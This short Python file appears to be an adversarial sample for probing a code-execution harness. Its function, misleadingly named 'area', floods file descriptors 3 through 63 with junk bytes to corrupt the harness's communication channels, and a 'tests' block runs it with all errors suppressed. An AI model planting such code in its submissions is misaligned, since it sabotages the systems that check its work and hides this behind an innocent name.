# Writes garbage into the conversation.
import os


def area(x):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\xff" * 100_000)
        except OSError:
            pass
    return 0


# === tests ===
try:
    area(3)
except BaseException:
    pass
